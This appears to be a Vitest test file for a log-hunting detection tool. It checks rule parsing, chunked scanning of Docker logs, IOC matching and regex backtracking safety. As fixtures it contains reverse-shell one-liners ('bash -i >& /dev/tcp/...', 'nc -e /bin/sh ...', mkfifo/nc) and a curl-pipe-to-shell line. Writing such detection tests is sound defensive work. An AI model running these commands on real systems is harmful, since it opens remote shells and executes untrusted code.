import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import {
  checkExamples,
  compileIocRules,
  compileRules,
  dockerJsonEscape,
  findingsFromHits,
  huntBuffer,
  huntFile,
  loadHuntRules,
  parseRuleFile,
  readRuleDir,
  selectRules,
} from "../../../src/judge/hunt/index.js";
import { iocFromArgs } from "../../../src/judge/ioc/ioc-set.js";

const FIXTURE = new URL("../../fixtures/judge/docker-json-file.log", import.meta.url);
const tmp = mkdtempSync(join(tmpdir(), "bk-judge-hunt-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const loaded = await loadHuntRules();
if (!loaded.ok) throw new Error(loaded.error.message);
const shipped = loaded.value;

const RULE = `# a comment
id: hunt.test-rule
title: Test
severity: high
confidence: medium
next: look at {where}
literal: needle
pattern: needle [0-9]+
`;

describe("rule files", () => {
  it("parses a rule with defaults", () => {
    const r = parseRuleFile(RULE, "test-rule.rule", "test-rule");
    expect(r.ok && r.value).toMatchObject({
      id: "hunt.test-rule",
      applies: "any",
      threshold: 1,
      literals: ["needle"],
      flags: "",
    });
  });
  it.each([
    [RULE.replace("severity: high", "severity: severe"), 4, /severity "severe" is not one of/],
    [RULE.replace("literal: needle", "literal: ab"), 7, /shorter than 3 bytes/],
    [
      RULE.replace("pattern: needle [0-9]+", "pattern: needle ([0-9]+"),
      8,
      /pattern does not compile/,
    ],
    [`${RULE}colour: red\n`, 9, /unknown key "colour"/],
    [`${RULE}title: again\n`, 9, /"title" given twice \(first on line 3\)/],
    [`${RULE}threshold: many\n`, 9, /threshold "many" is not a positive integer/],
    [`${RULE}just text\n`, 9, /expected "key: value"/],
    [RULE.replace("literal: needle\n", ""), 1, /missing "literal:"/],
  ])("names the file and line of a mistake (%#)", (text, line, msg) => {
    const r = parseRuleFile(text, "rules/hunt/test-rule.rule");
    expect(r.ok).toBe(false);
    if (!r.ok) {
      expect(r.error.line).toBe(line);
      expect(r.error.message).toMatch(msg);
      expect(r.error.message).toContain(`rules/hunt/test-rule.rule${line ? `:${line}` : ""}:`);
    }
  });
  it("requires the id to match the file name", () => {
    const r = parseRuleFile(RULE, "x.rule", "x");
    expect(!r.ok && r.error.message).toBe(
      'x.rule:2: id "hunt.test-rule" must be "hunt.x", after the file name "x.rule"',
    );
    const bare = parseRuleFile(RULE.replace("id: hunt.test-rule", "id: x"), "x.rule", "x");
    expect(!bare.ok && bare.error.message).toMatch(
      /x.rule:2: id "x" must be "hunt." .*\(here: hunt.x\)/,
    );
  });
  it("keeps spaces of a JSON-quoted literal", () => {
    const r = parseRuleFile(RULE.replace("literal: needle", 'literal: " | sh"'), "f");
    expect(r.ok && r.value.literals).toEqual([" | sh"]);
  });
  it("self-checks examples: a broken rule is caught at load time", () => {
    const r = parseRuleFile(`${RULE}example: needle 42\nnot: needle x\n`, "f");
    if (!r.ok) throw new Error(r.error.message);
    expect(checkExamples(r.value)).toBeNull();
    expect(checkExamples({ ...r.value, examples: ["needle"] })).toMatch(/does not hit the rule/);
    expect(checkExamples({ ...r.value, counterExamples: ["needle 7"] })).toMatch(
      /"needle 7" hits the rule/,
    );
  });
  it("loads every shipped rule, one per file, all self-checked", async () => {
    const read = await readRuleDir();
    expect(read.ok && read.value.map((r) => r.id)).toEqual(shipped.rules.map((r) => r.id));
    expect(shipped.rules.map((r) => r.id)).toEqual(
      expect.arrayContaining([
        "hunt.gitlab-exiftool-cve-2021-22205",
        "hunt.webshell-upload-dir",
        "hunt.wordpress-xmlrpc-bruteforce",
        "hunt.download-and-run",
        "hunt.reverse-shell",
      ]),
    );
  });
  it("reports a bad file in a rule directory by name", async () => {
    const dir = join(tmp, "bad-rules");
    rmSync(dir, { recursive: true, force: true });
    (await import("node:fs")).mkdirSync(dir);
    writeFileSync(
      join(dir, "test-rule.rule"),
      RULE.replace("confidence: medium", "confidence: sure"),
    );
    const r = await loadHuntRules(dir);
    expect(!r.ok && r.error.message).toBe(
      `${join(dir, "test-rule.rule")}:5: confidence "sure" is not one of low, medium, high`,
    );
  });
  it("selects rules by where a log comes from", () => {
    const host = { ...shipped.rules[0]!, id: "h", applies: "host" as const };
    expect(selectRules([host, shipped.rules[1]!], "container").map((r) => r.id)).toEqual([
      shipped.rules[1]!.id,
    ]);
  });
});

describe("huntBuffer / huntFile", () => {
  it("finds the incident's lines in a real Docker json-file log, with line numbers and decoded messages", async () => {
    const hits = await huntFile(FIXTURE.pathname, shipped.compiled);
    expect(hits.map((h) => `${h.line}:${h.rule}`)).toEqual([
      "1:hunt.gitlab-exiftool-cve-2021-22205",
      "3:hunt.gitlab-exiftool-cve-2021-22205",
      "4:hunt.reverse-shell",
      "6:hunt.download-and-run",
      "7:hunt.reverse-shell",
      "8:hunt.reverse-shell",
    ]);
    expect(hits[0]!.text).toBe(
      '51.89.237.81 - - [12/Nov/2021:13:20:58 +0800] "POST /uploads/user HTTP/1.0" 422 24 "" "python-requests/2.26.0"',
    );
    expect(hits[0]!.time).toBe("2026-11-25T03:03:28.602542729Z");
    // Docker wrote ">&" as \u003e\u0026: found anyway, shown decoded.
    expect(hits[2]!.text).toBe("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
    expect(hits[4]!.stream).toBe("stderr");
    // Hostile bytes are kept as evidence; neutralising them is the display's job.
    expect(hits[3]!.text).toContain("\u001b[31m");
  });
  it("gives the same hits whatever the chunk size (lines never straddle chunks)", async () => {
    const lines = Array.from({ length: 20_000 }, (_, i) =>
      i % 997 === 0
        ? `10.0.0.${i % 250} - - "GET /x?c=curl%20http://a/b.sh%7Csh HTTP/1.1" 404 0`
        : `10.0.0.${i % 250} - - "GET /page/${i} HTTP/1.1" 200 ${i}`,
    );
    const file = join(tmp, "chunks.log");
    writeFileSync(file, `${lines.join("\r\n")}\r\n`);
    const whole = huntBuffer(readFileSync(file), shipped.compiled, file);
    expect(whole.map((h) => h.line)).toEqual(
      lines.flatMap((_, i) => (i % 997 === 0 ? [i + 1] : [])),
    );
    expect(whole[0]!.text.endsWith("\r")).toBe(false);
    for (const chunkBytes of [64 * 1024, 100_003, 1 << 20]) {
      expect(await huntFile(file, shipped.compiled, { chunkBytes })).toEqual(whole);
    }
  });
  it("hunts a line longer than the chunk, and a last line without a newline", async () => {
    const file = join(tmp, "long.log");
    writeFileSync(
      file,
      `first\n${"x".repeat(200_000)} nc -e /bin/sh 203.0.113.9 4444 ${"y".repeat(10)}\nlast bash -i >& /dev/tcp/203.0.113.9/1 0>&1`,
    );
    const hits = await huntFile(file, shipped.compiled, { chunkBytes: 64 * 1024 });
    expect(hits.map((h) => `${h.line}:${h.rule}`)).toEqual([
      "2:hunt.reverse-shell",
      "3:hunt.reverse-shell",
    ]);
    expect(hits[0]!.text.length).toBeLessThanOrEqual(501);
  });
  it("does not fire on near-misses of a clean access log", () => {
    const clean = [
      '10.0.0.5 - - [01/Mar/2026:10:00:00 +0000] "GET /wp-content/uploads/2026/03/photo.jpg HTTP/1.1" 200 51200 "-" "curl/8.5.0"',
      '10.0.0.5 - - [01/Mar/2026:10:00:01 +0000] "GET /xmlrpc.php HTTP/1.1" 405 42 "-" "Mozilla/5.0"',
      '10.0.0.5 - - [01/Mar/2026:10:00:02 +0000] "GET /uploads/-/system/user/avatar/1/avatar.png?width=64 HTTP/1.1" 200 10 "-" "-"',
      "curl -s http://127.0.0.1/health | jq .",
    ];
    expect(huntBuffer(Buffer.from(clean.join("\n")), shipped.compiled, "clean.log")).toEqual([]);
  });
  it("applies keyed thresholds per client address: 20 xmlrpc POSTs from one address, not 19 each from two", () => {
    const post = (ip: string) =>
      `${ip} - - [01/Mar/2026:10:00:00 +0000] "POST /xmlrpc.php HTTP/1.1" 200 403 "-" "x"`;
    const spread = [
      ...Array(19).fill(post("198.51.100.1")),
      ...Array(19).fill(post("198.51.100.2")),
    ];
    expect(huntBuffer(Buffer.from(spread.join("\n")), shipped.compiled, "a.log")).toEqual([]);
    const burst = [post("198.51.100.1"), ...spread, post("198.51.100.1")];
    const hits = huntBuffer(Buffer.from(burst.join("\n")), shipped.compiled, "a.log");
    expect(hits).toHaveLength(21);
    expect(new Set(hits.map((h) => h.key))).toEqual(new Set(["198.51.100.1"]));
    expect(hits[0]!.line).toBe(1);
  });
  it("keeps at most maxHitsPerRule hits and counts the rest in `more`", () => {
    const text = Array.from({ length: 50 }, () => "nc -e /bin/sh 203.0.113.9 4444").join("\n");
    const hits = huntBuffer(Buffer.from(text), shipped.compiled, "f", { maxHitsPerRule: 10 });
    expect(hits).toHaveLength(10);
    expect(hits[9]!.more).toBe(40);
  });
  it("escapes literals like Docker's json-file driver", () => {
    expect(dockerJsonEscape('a<b>&"\\\n')).toBe('a\\u003cb\\u003e\\u0026\\"\\\\\\n');
  });
});

/**
 * Backtracking shapes that make one hostile log line (the attacker writes the logs) cost
 * seconds to minutes: two unbounded `.*` (cubic), a quantified group holding an unbounded
 * quantifier (nested), an unbounded run of `.`, `\S` or a negated class in an unanchored
 * pattern (quadratic over the line's many starting points).
 */
function slowShape(source: string): string | null {
  const s = source
    .replace(/\\S/g, "N")
    .replace(/\\./g, "E")
    .replace(/\[[^\]]*\]/g, (m) => (m.startsWith("[^") ? "N" : "C"));
  const unboundedBroad = s.match(/[.N](\*|\+|\{\d+,\})/g) ?? [];
  if (unboundedBroad.length >= 2) return "two unbounded runs";
  if (/\([^()]*(\*|\+|\{\d+,\})[^()]*\)(\*|\+|\{\d+,\})/.test(s)) return "nested quantifier";
  if (unboundedBroad.length && !s.startsWith("^")) return "unanchored unbounded run";
  return null;
}

describe("shipped rules on hostile lines", () => {
  it("use no pattern shape that backtracks badly", () => {
    const slow = shipped.rules.flatMap((r) =>
      r.patterns.flatMap((p) => {
        const why = slowShape(p);
        return why ? [`${r.id}: ${why}: ${p}`] : [];
      }),
    );
    expect(slow).toEqual([]);
  });
  it("hunt 64 KiB lines built to make them backtrack, without a hit", () => {
    const n = 64 * 1024;
    const lines = [
      `/uploads/user${'"method":"POST""status":400'.repeat(n / 27)}`,
      `/uploads/user${'"method":"POST","status":400,'.repeat(n / 29)}`,
      `/bin/ nc${" -nc".repeat(n / 4)}`,
      "/uploads/".repeat(n / 9),
      `cmd=${".php?".repeat(n / 5)}`,
      `mkfifo ${"a".repeat(n)}`,
    ];
    expect(huntBuffer(Buffer.from(lines.join("\n")), shipped.compiled, "hostile.log")).toEqual([]);
  });
});

describe("findingsFromHits", () => {
  it("groups hits per rule and file, with a count, the first lines, and {where} filled in", async () => {
    const hits = await huntFile(FIXTURE.pathname, shipped.compiled);
    const fs = findingsFromHits(hits, shipped.compiled, {
      origin: { where: "bk-lab-gitlab", containerId: "abc" },
      maxEvidence: 2,
    });
    expect(fs.map((f) => `${f.rule}:${f.severity}`)).toEqual([
      "hunt.gitlab-exiftool-cve-2021-22205:critical",
      "hunt.reverse-shell:critical",
      "hunt.download-and-run:high",
    ]);
    const rs = fs[1]!;
    expect(rs.title).toBe(
      "Reverse shell command: 3 lines in docker-json-file.log (first at line 4)",
    );
    expect(rs.evidence.slice(0, 2).map((e) => e.line)).toEqual([4, 7]);
    expect(rs.evidence[2]!.facts).toMatchObject({ matches: "3", lines: "4-8" });
    expect(fs[0]!.next).toContain("breachkit contain bk-lab-gitlab");
    expect(fs[0]!.source).toBe("hunt");
  });
  it("counts hits left out by the cap", () => {
    const text = Array.from({ length: 30 }, () => "mkfifo /tmp/f; nc 203.0.113.9 1").join("\n");
    const hits = huntBuffer(Buffer.from(text), shipped.compiled, "f", { maxHitsPerRule: 5 });
    const [f] = findingsFromHits(hits, shipped.rules, {
      origin: { where: "host", containerId: null },
    });
    expect(f!.title).toContain("30 lines");
  });
});

describe("IOC hunting rules", () => {
  it("finds names as words, addresses exactly, and CIDR members", () => {
    const iocs = iocFromArgs(["wate", "203.0.113.9", "198.51.100.0/24", "d".repeat(64)]);
    if (!iocs.ok) throw new Error(iocs.error.message);
    const set = compileIocRules(iocs.value);
    const text = [
      "started /tmp/wate", // name
      "the water is fine", // not a word match
      "peer 203.0.113.9:4444", // ip
      "peer 203.0.113.90", // not the ip
      "from 198.51.100.77 via x", // cidr
      "from 198.51.1000.7", // not an address
      `hash ${"D".repeat(64)}`, // sha256, any case
    ].join("\n");
    expect(huntBuffer(Buffer.from(text), set, "f").map((h) => h.line)).toEqual([1, 3, 5, 7]);
  });
  it("compiles to nothing without IOCs", () => {
    expect(compileIocRules(undefined).rules).toEqual([]);
    expect(huntBuffer(Buffer.from("x"), compileRules([]), "f")).toEqual([]);
  });
});

describe("huntLogs", () => {
  it("hunts each source with the rules for its place, adds IOCs, and reports unreadable files as gaps", async () => {
    const { huntLogs } = await import("../../../src/judge/hunt/index.js");
    const iocs = iocFromArgs(["203.0.113.9"]);
    if (!iocs.ok) throw new Error(iocs.error.message);
    const hostOnly = {
      ...shipped.rules.find((r) => r.id === "hunt.reverse-shell")!,
      applies: "host" as const,
    };
    const rules = [...shipped.rules.filter((r) => r.id !== "hunt.reverse-shell"), hostOnly];
    const r = await huntLogs(
      [
        { path: FIXTURE.pathname, where: "bk-lab-gitlab", containerId: "abc" },
        { path: join(tmp, "missing.log"), where: "host", containerId: null },
      ],
      rules,
      { iocs: iocs.value },
    );
    expect(r.findings.map((f) => `${f.where}:${f.rule}:${f.source}`).sort()).toEqual([
      "bk-lab-gitlab:hunt.download-and-run:hunt",
      "bk-lab-gitlab:hunt.gitlab-exiftool-cve-2021-22205:hunt",
      "bk-lab-gitlab:ioc.log:ioc",
    ]);
    expect(r.gaps).toEqual([
      { path: join(tmp, "missing.log"), message: expect.stringContaining("ENOENT") },
    ]);
    expect(r.bytes).toBeGreaterThan(1000);
  });
});

describe("hostile log lines", () => {
  it("hunts a cut or corrupt Docker JSON line as raw text, and a NUL-laden line too", () => {
    const text = [
      '{"log":"nc -e /bin/sh 203.0.113.9 4444',
      '{"log":"x\u0000 bash -i >& /dev/tcp/1.2.3.4/5 0>&1"}',
    ].join("\n");
    const hits = huntBuffer(Buffer.from(text), shipped.compiled, "f");
    expect(hits.map((h) => h.line)).toEqual([1, 2]);
    expect(hits[0]!.text).toBe('{"log":"nc -e /bin/sh 203.0.113.9 4444');
  });
  it("survives invalid UTF-8 around a hit", () => {
    const buf = Buffer.concat([
      Buffer.from([0xff, 0xfe, 0x20]),
      Buffer.from("pty.spawn('/bin/sh')\n"),
    ]);
    const [h] = huntBuffer(buf, shipped.compiled, "f");
    expect(h!.text).toContain("\ufffd");
  });
});
